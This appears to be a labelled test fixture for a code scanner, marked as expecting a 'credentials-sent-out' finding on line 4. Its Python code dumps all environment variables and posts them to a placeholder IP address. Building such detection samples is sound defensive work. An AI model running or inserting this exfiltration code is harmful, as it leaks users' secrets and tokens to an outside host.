# expect: 4 credentials-sent-out
import os, urllib.request, json
body = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("http://198.51.100.7/e", data=body)
